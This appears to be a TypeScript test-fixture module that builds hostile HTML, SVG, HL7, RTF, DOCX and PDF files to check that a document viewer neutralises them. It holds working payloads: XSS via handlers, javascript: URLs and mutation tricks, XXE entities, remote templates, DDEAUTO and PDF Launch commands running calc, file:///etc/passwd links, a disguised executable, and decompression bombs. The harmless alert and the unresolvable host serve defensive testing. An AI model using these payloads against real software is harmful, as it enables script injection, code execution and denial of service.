import { deflateSync } from 'node:zlib'
import type { MadeFile } from '../steps/open-file-page.ts'
import { EXTRA, writePdf } from './pdf-writer.ts'
import { writeZip } from './zip-writer.ts'

/**
 * The host that everything in these files tries to reach. The name resolves nowhere; a request
 * would be seen all the same.
 */
export const ELSEWHERE = 'https://elsewhere.invalid'

/** The effects of a script of these files: a mark on every window that it reaches, and a dialog. */
const RUN = 'try{top.ran=1}catch(e){};try{parent.ran=1}catch(e){};self.ran=1;alert(1)'

/** Bodies of web pages that try to act, each in another way. Each says "Readable" somewhere. */
const PAGES: readonly (readonly [name: string, body: string])[] = [
  ['script', `<script>${RUN}</script><script src="${ELSEWHERE}/a.js"></script><p>Readable</p>`],
  [
    'handlers',
    `<p onclick="${RUN}" onmouseover="${RUN}">Readable</p><img src=x onerror="${RUN}">` +
      `<body onload="${RUN}"><details open ontoggle="${RUN}"><summary>s</summary></details>` +
      `<input autofocus onfocus="${RUN}">`,
  ],
  [
    'addresses',
    `<p>Readable</p><a href="javascript:${RUN}">a</a><a href="data:text/html,<script>` +
      `${RUN}</script>">b</a><a href="  java&#10;script:${RUN}">c</a><a ` +
      `href="vbscript:x">d</a><area href="javascript:${RUN}">`,
  ],
  [
    'drawings',
    `<p>Readable</p><svg onload="${RUN}"><script>${RUN}</script><image ` +
      `href="${ELSEWHERE}/i.png"/><foreignObject><img src=x onerror="${RUN}"></foreignObject>` +
      `<use href="${ELSEWHERE}/u.svg#a"/><a xlink:href="javascript:${RUN}"><text>t</text></a>` +
      `</svg><math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  ],
  [
    'styles',
    `<style>@import url(${ELSEWHERE}/s.css); body{background:url(${ELSEWHERE}/b.png)} ` +
      `@font-face{font-family:f;src:url(${ELSEWHERE}/f.woff)} *{font-family:f}</style><link ` +
      `rel=stylesheet href="${ELSEWHERE}/l.css"><p style="background:url(${ELSEWHERE}/p.png)"` +
      '>Readable</p>',
  ],
  [
    'pictures',
    `<p>Readable</p><img src="${ELSEWHERE}/i.png" srcset="${ELSEWHERE}/j.png 2x"><picture>` +
      `<source srcset="${ELSEWHERE}/k.png"><img src="//elsewhere.invalid/m.png"></picture>` +
      `<video poster="${ELSEWHERE}/v.png" src="${ELSEWHERE}/v.mp4" autoplay></video><audio ` +
      `src="${ELSEWHERE}/a.mp3" autoplay></audio><table background="${ELSEWHERE}/t.png"><tr>` +
      `<td>x</table><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' ` +
      `onload='${RUN}'/>">`,
  ],
  [
    'frames',
    `<p>Readable</p><iframe src="${ELSEWHERE}/"></iframe><iframe srcdoc="<script>` +
      `${RUN}</script>"></iframe><object data="${ELSEWHERE}/o"></object><embed ` +
      `src="${ELSEWHERE}/e"><portal src="${ELSEWHERE}/p"></portal>`,
  ],
  [
    'leaving',
    `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/r"><base href="${ELSEWHERE}/">` +
      `<link rel=prefetch href="${ELSEWHERE}/p"><link rel=preconnect href="${ELSEWHERE}">` +
      '<link rel=dns-prefetch href="//elsewhere.invalid"><p>Readable</p><img ' +
      'src="relative.png">',
  ],
  [
    'forms',
    `<p>Readable</p><form action="${ELSEWHERE}/f" id=f><input name=a value=1><button ` +
      `formaction="javascript:${RUN}">b</button><input type=image src="${ELSEWHERE}/i.png">` +
      `</form><form id=g action="javascript:${RUN}"></form><isindex ` +
      `action="javascript:${RUN}">`,
  ],
  [
    'clobbering',
    '<p>Readable</p><form id=attributes><input name=nodeName></form><img name=body><img ' +
      'id=documentElement><a id=defaultView name=cookie>x</a>',
  ],
  [
    'mutation',
    `<p>Readable</p><noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>` +
      '<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 ' +
      `onerror=${RUN}&gt;"></table></mi></math><template><script>${RUN}</script></template>` +
      `<xmp><img src=x onerror=${RUN}></xmp>`,
  ],
  [
    'encoding',
    `<p>Readable</p>+ADw-script+AD4-${RUN}+ADw-/script+AD4-<scr\u0000ipt>` +
      `${RUN}</scr\u0000ipt><IMG ` +
      `SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}>` +
      `<img/src="x"/onerror=${RUN}>`,
  ],
]

export const HOSTILE_PAGES: readonly MadeFile[] = [
  ...PAGES.map(([name, body]) => ({
    name: `${name}.html`,
    bytes: Buffer.from(
      `<!DOCTYPE html><html><head><title>t</title></head><body>${body}</body></html>`,
    ),
  })),
  {
    name: 'deep.html',
    bytes: Buffer.from(
      `<!DOCTYPE html><p>Readable</p>${'<div>'.repeat(20_000)}<script>${RUN}</script>`,
    ),
  },
  {
    name: 'xhtml.html',
    bytes: Buffer.from(
      `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "${ELSEWHERE}/x">]><html ` +
        'xmlns="http://www.w3.org/1999/xhtml"><body><p>Readable &x;</p><script>' +
        `${RUN}</script></body></html>`,
    ),
  },
]

/** A drawing that tries to act. */
export const HOSTILE_DRAWING: MadeFile = {
  name: 'drawing.svg',
  bytes: Buffer.from(
    `<?xml version="1.0"?><?xml-stylesheet href="${ELSEWHERE}/s.css"?><svg ` +
      'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ' +
      `width="200" height="100" onload="${RUN}">` +
      (`<script>${RUN}</script><style>@import url(${ELSEWHERE}/t.css);</style><image ` +
        `href="${ELSEWHERE}/i.png" width="9" height="9"/><foreignObject width="9" height="9">` +
        `<iframe xmlns="http://www.w3.org/1999/xhtml" src="${ELSEWHERE}/f"/></foreignObject>`) +
      (`<animate attributeName="href" values="javascript:${RUN}"/><a ` +
        `xlink:href="javascript:${RUN}"><text x="10" y="40">Readable</text></a></svg>`),
  ),
}

/**
 * Messages between systems that try to act or to go on without end. Each says "Readable" in its
 * first note.
 */
export const HOSTILE_MESSAGES: readonly MadeFile[] = [
  ['markup', `<script>${RUN}</script><img src=x onerror="${RUN}">`],
  ['address', `\rOBX|1|RP|a||${ELSEWHERE}/a.pdf^b^application^pdf\rOBX|2|ST|b||javascript:${RUN}`],
  ['inside', `\rOBX|1|ED|a||a^TEXT^HTML^Base64^${btoa(`<p>Readable</p><script>${RUN}</script>`)}`],
  ['many-segments', '\rOBX|1|ST|a||b'.repeat(20_000)],
  ['many-fields', '|a'.repeat(300_000)],
  ['many-parts', '~a^b&c'.repeat(100_000)],
  ['many-escapes', '\\F\\'.repeat(300_000)],
  ['names', '\r__proto__|1\rconstructor|2\rMSH|^~\\&|__proto__||||||constructor^toString'],
].map(([name = '', rest = '']) => ({
  name: `${name}.hl7`,
  bytes: Buffer.from(
    `MSH|^~\\&|LAB|CLINIC|||202611270830||ORU^R01|7|P|2.5.1\rNTE|1||Readable ${rest}`,
  ),
}))

/** Documents of a word processor (RTF) that try to act. Each says "Readable". */
export const HOSTILE_RTF: readonly MadeFile[] = [
  ['markup', `Readable <script>${RUN}</script><img src=x onerror="${RUN}">\\par`],
  [
    'fields',
    `Readable {\\field{\\*\\fldinst INCLUDEPICTURE "${ELSEWHERE}/a.png"}{\\fldrslt a}}` +
      `{\\field{\\*\\fldinst HYPERLINK "javascript:${RUN}"}{\\fldrslt b}}` +
      `{\\field{\\*\\fldinst DDEAUTO cmd "/c calc"}{\\fldrslt c}}\\par`,
  ],
  [
    'template',
    `{\\*\\template ${ELSEWHERE}/t.dotm}Readable {\\object\\objautlink{\\*\\objdata 0105}}\\par`,
  ],
  ['groups', `Readable ${'{a}'.repeat(300_000)}`],
].map(([name = '', body = '']) => ({
  name: `${name}.rtf`,
  bytes: Buffer.from(`{\\rtf1\\ansi ${body}}`, 'latin1'),
}))

const WORD =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' +
  'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ' +
  'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'

function docx(
  name: string,
  body: string,
  more: readonly (readonly [string, string | Buffer])[] = [],
): MadeFile {
  const document = `<w:document ${WORD}><w:body>${body}</w:body></w:document>`
  return { name: `${name}.docx`, bytes: writeZip([['word/document.xml', document], ...more]) }
}

/** Documents of Word that try to act or to reach outside. Each says "Readable". */
export const HOSTILE_DOCX: readonly MadeFile[] = [
  docx(
    'markup',
    `<w:p><w:r><w:t>Readable &lt;script&gt;${RUN}&lt;/script&gt;&lt;img src=x onerror="${RUN}"&gt;</w:t></w:r></w:p>`,
  ),
  docx(
    'outside',
    '<w:p><w:r><w:t>Readable</w:t></w:r><w:r><w:drawing><a:blip r:embed="i" r:link="i"/></w:drawing></w:r>' +
      '<w:hyperlink r:id="j"><w:r><w:t>a</w:t></w:r></w:hyperlink><w:r><w:instrText>INCLUDETEXT ' +
      `${ELSEWHERE}/a.docx</w:instrText></w:r></w:p>`,
    [
      [
        'word/_rels/document.xml.rels',
        '<Relationships>' +
          [
            ['i', 'image', `${ELSEWHERE}/i.png`],
            ['j', 'hyperlink', `javascript:${RUN}`],
            ['t', 'attachedTemplate', `${ELSEWHERE}/t.dotm`],
            ['s', 'styles', `${ELSEWHERE}/s.xml`],
            ['h', 'header', `${ELSEWHERE}/h.xml`],
            ['o', 'oleObject', `${ELSEWHERE}/o`],
          ]
            .map(
              ([id, kind, target]) =>
                `<Relationship Id="${id}" Type="x/${kind}" Target="${target}" TargetMode="External"/>`,
            )
            .join('') +
          '</Relationships>',
      ],
      ['word/vbaProject.bin', 'macros'],
    ],
  ),
]

/** Documents of a word processor without bounds, and the sentence in which each ends. */
export const ENDLESS_OFFICE: readonly (MadeFile & { readonly must: string })[] = [
  {
    name: 'deep.rtf',
    bytes: Buffer.from(`{\\rtf1 ${'{'.repeat(1_000_000)}`),
    must: 'built in a way that cannot be read safely here',
  },
  {
    name: 'long.rtf',
    bytes: Buffer.from(`{\\rtf1 ${'a\\par '.repeat(300_000)}}`),
    must: 'too large to be converted here',
  },
  {
    ...docx('bomb', '', [
      ['word/styles.xml', ''],
      ['word/_rels/document.xml.rels', Buffer.alloc(300_000_000, ' ')],
    ]),
    must: 'too large to be converted here',
  },
  {
    ...docx('nested', '<w:sdt>'.repeat(100_000) + '</w:sdt>'.repeat(100_000)),
    must: 'built in a way that cannot be read safely here',
  },
  {
    name: 'entities.docx',
    bytes: writeZip([
      ['word/document.xml', '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>'],
    ]),
    must: 'built in a way that cannot be read safely here',
  },
  {
    name: 'cut.docx',
    bytes: docx('cut', '').bytes.subarray(0, -30),
    must: 'damaged or incomplete and cannot be converted',
  },
]

/** A document that a reader is busy with for a minute: one tag with 1.4 million attributes. */
export const BUSY_OFFICE: MadeFile = docx(
  'attributes',
  `<x ${Array.from({ length: 1_400_000 }, (_, at) => `a${at}=""`).join(' ')}/>`,
)

/** Pages that a browser would lay out for minutes, or end its process on. */
export const LONG_PAGES: readonly (MadeFile & { readonly parts: number })[] = [
  {
    ...docx(
      'row',
      `<w:tbl><w:tr>${'<w:tc><w:p><w:r><w:t>5</w:t></w:r></w:p></w:tc>'.repeat(40_000)}</w:tr></w:tbl>`,
    ),
    parts: 5,
  },
  ...(
    [
      ['items', `<ul>${'<li>5 mg'.repeat(149_000)}</ul>`, 15],
      ['deep', `${'<div>'.repeat(9_000)}5`, 1],
      ['tables', '<table><tr><td>5'.repeat(3300), 1],
      ['spans', `<table>${'<tr><td colspan=1000 rowspan=60000>5'.repeat(3000)}</table>`, 1],
      ['attributes', `<p ${Array.from({ length: 200_000 }, (_, at) => `a${at}=1`).join(' ')}>5`, 1],
    ] as const
  ).map(([name, body, parts]) => ({
    name: `${name}.html`,
    bytes: Buffer.from(`<!DOCTYPE html><body>${body}`),
    parts,
  })),
]

/** Messages of 30 MB with nothing to show, of which each sign is looked at. */
export const BUSY_MESSAGES: readonly MadeFile[] = ['|', '\u000b'].map((sign, at) => ({
  name: `busy-${at}.hl7`,
  bytes: Buffer.from(
    `MSH|^~\\&|LAB|CLINIC|||202611270830||ORU^R01|7|P|2.5.1\rNTE|1||Readable|${sign.repeat(30_000_000)}`,
  ),
}))

const script = (code: string) =>
  `<< /S /JavaScript /JS (${code.replaceAll(/[()\\]/g, String.raw`\$&`)}) >>`
const rectangle = '/Rect [40 700 300 790]'

/** A web page inside a PDF. */
const INNER_PAGE =
  `<!DOCTYPE html><p>Inner words</p><img src="${ELSEWHERE}/i.png" onerror="${RUN}"><script>` +
  `${RUN}</script>`

/** 150 MB of one letter, packed. */
const BOMB = deflateSync(Buffer.alloc(150_000_000, 'a')).toString('latin1')

/**
 * PDFs that try to act when they are opened, viewed or pressed. Each says "Readable" on its first
 * page.
 */
export const HOSTILE_PDFS: readonly MadeFile[] = [
  {
    name: 'open-script',
    catalog: `/OpenAction ${script(RUN)} /Names << /JavaScript << /Names [(a) ${script(RUN)}] >> >>`,
  },
  { name: 'open-address', catalog: `/OpenAction << /S /URI /URI (${ELSEWHERE}/open) >>` },
  {
    name: 'open-program',
    catalog: '/OpenAction << /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >>',
  },
  {
    name: 'page-actions',
    firstPage: `/AA << /O ${script(RUN)} /C ${script(RUN)} >>`,
    catalog: `/AA << /WC ${script(RUN)} >>`,
  },
  {
    name: 'sending',
    catalog: `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${ELSEWHERE}/form) >> /Flags 4 >>`,
  },
  {
    name: 'pressed',
    annotations: [
      `<< /Type /Annot /Subtype /Link ${rectangle} /A ${script(RUN)} >>`,
      `<< /Type /Annot /Subtype /Link ${rectangle} /A << /S /URI /URI ` +
        `(javascript:${RUN.replaceAll(/[()]/g, String.raw`\$&`)}) >> >>`,
      `<< /Type /Annot /Subtype /Link ${rectangle} /A << /S /Launch /F (calc.exe) >> >>`,
      `<< /Type /Annot /Subtype /Link ${rectangle} /A << /S /GoToR /F ` +
        `(\\\\\\\\elsewhere.invalid\\\\a.pdf) /D [0 /Fit] >> >>`,
      `<< /Type /Annot /Subtype /Link ${rectangle} /A << /S /URI /URI (file:///etc/passwd) >> >>`,
    ],
  },
  {
    name: 'fields',
    catalog: `/AcroForm << /Fields [${EXTRA} 0 R] /CO [${EXTRA} 0 R] /NeedAppearances true /XFA ${EXTRA + 1} 0 R >>`,
    annotations: [
      `${EXTRA} 0 R`,
      `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) ${rectangle} /A << /S ` +
        `/SubmitForm /F << /FS /URL /F (${ELSEWHERE}/form) >> >> >>`,
      `<< /Type /Annot /Subtype /Widget /FT /Ch /Ff 131072 /T (<b>list</b>) /Opt [(<img src=x ` +
        `onerror=ran=1>)] /Rect [56 560 300 580] /AA << /K ${script(RUN)} >> >>`,
    ],
    extra: [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (kept value) ${rectangle} /AA ` +
        `<< /K ${script(RUN)} /F ${script(RUN)} /Fo ${script(RUN)} >> /A ${script(RUN)} >>`,
      `<< /Length 60 >>\nstream\n<xdp><script>app.alert(1)</script></xdp>                        \nendstream`,
    ],
  },
  {
    name: 'attached',
    catalog:
      `/Names << /EmbeddedFiles << /Names [(a) ${EXTRA} 0 R (b) ${EXTRA + 2} 0 R (c) ` +
      `${EXTRA + 4} 0 R (d) ${EXTRA + 6} 0 R] >> >>`,
    extra: [
      // A program under a picture's name, with a mark that turns the direction of letters.
      `<< /Type /Filespec /F (x) /UF <FEFF002E002E005C0061202E006700700065002E0070006E0067> /EF << ` +
        `/F ${EXTRA + 1} 0 R >> >>`,
      '<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ..\nendstream',
      `<< /Type /Filespec /F (page.html) /EF << /F ${EXTRA + 3} 0 R >> >>`,
      `<< /Type /EmbeddedFile /Length ${INNER_PAGE.length} >>\nstream\n${INNER_PAGE}\nendstream`,
      `<< /Type /Filespec /F (bomb.txt) /EF << /F ${EXTRA + 5} 0 R >> >>`,
      `<< /Type /EmbeddedFile /Filter /FlateDecode /Length ${BOMB.length} >>\nstream\n${BOMB}\nendstream`,
      `<< /Type /Filespec /FS /URL /F (${ELSEWHERE}/far.pdf) >>`,
    ],
  },
  {
    name: 'media',
    annotations: [
      `<< /Type /Annot /Subtype /Screen ${rectangle} /A << /S /Rendition /OP 0 /R << /S ` +
        `/MR /C << /S /MCD /D << /FS /URL /F (${ELSEWHERE}/m.mp4) >> /CT (video/mp4) >> >> ` +
        '>> >>',
    ],
  },
].map(({ name, ...plan }) => ({
  name: `${name}.pdf`,
  bytes: writePdf({ pages: [['Readable']], ...plan }),
}))
